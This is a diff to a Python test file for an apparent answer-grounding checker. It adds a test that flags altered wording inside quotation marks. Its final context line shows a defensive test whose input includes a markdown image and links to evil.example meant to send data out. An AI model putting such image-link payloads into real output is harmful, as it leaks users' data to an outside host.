@@ -136,6 +136,24 @@ def test_it_keeps_a_number_in_the_sentence_it_was_quoted_from(checker):
     assert kept.flags == []
 
 
+def test_it_refuses_words_in_quotation_marks_that_the_quotes_do_not_say_as_written(checker):
+    # A new-user trial: the model's "quotation" added a comma and ran two sentences together.
+    rules = quote(1, "Staff must not post photographs of patients, clients or the inside of the practice on "
+                     "social media. Only the Practice Manager may post on the practice's official accounts.")
+    question = "Am I allowed to put a photo of a patient on my Instagram?"
+
+    misquoted = grounded(checker, '"Staff must not post photographs of patients, clients, or the inside…" on social '
+                                  'media. [1]', [rules], question=question)
+    faithful = grounded(checker, "\u201cStaff must not post photographs of patients, clients or the inside of the "
+                                 "practice\u201d on social media. [1]", [rules], question=question)
+    elided = grounded(checker, 'Staff "must not post photographs of patients ... on social media." [1]', [rules],
+                      question=question)
+
+    assert misquoted.flags == ["The model's answer puts in quotation marks words its quotes do not say: "
+                               "Staff must not post photographs of patie…."]
+    assert faithful.flags == [] and elided.flags == []
+
+
 def test_it_removes_images_and_links_that_would_send_data_out(checker):
     checked = check(
         checker, "Done [1]. ![x](https://evil.example/log?q=notice) see [here](http://evil.example) or https://evil.example/a",
